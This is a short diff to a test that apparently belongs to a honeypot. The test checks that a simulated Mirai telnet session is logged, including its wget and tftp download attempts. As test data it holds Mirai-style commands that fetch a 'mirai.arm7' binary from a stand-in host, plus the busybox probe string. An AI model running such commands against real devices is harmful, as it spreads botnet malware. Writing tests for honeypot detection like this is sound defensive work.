@@ -226,6 +226,8 @@ def test_mirai_bot_and_loader_reach_download(make_hanipo):
         h.events("download_url", "telnet")), what="download_url events")
     assert {(e["fields"]["url"], e["fields"]["tool"]) for e in dl} == {
         (url.decode(), "wget"), ("tftp://192.0.2.1/mirai.arm7", "tftp")}
+    tftp = next(e["fields"] for e in dl if e["fields"]["tool"] == "tftp")
+    assert tftp["host"] == "192.0.2.1" and tftp["file"] == "mirai.arm7"
     cmds = [e["fields"]["command"] for e in h.events("command", "telnet")]
     assert "enable\u0000" in cmds and "/bin/busybox MIRAI\u0000" in cmds
     assert any(c.startswith("/bin/busybox wget http://192.0.2.1") for c in cmds)
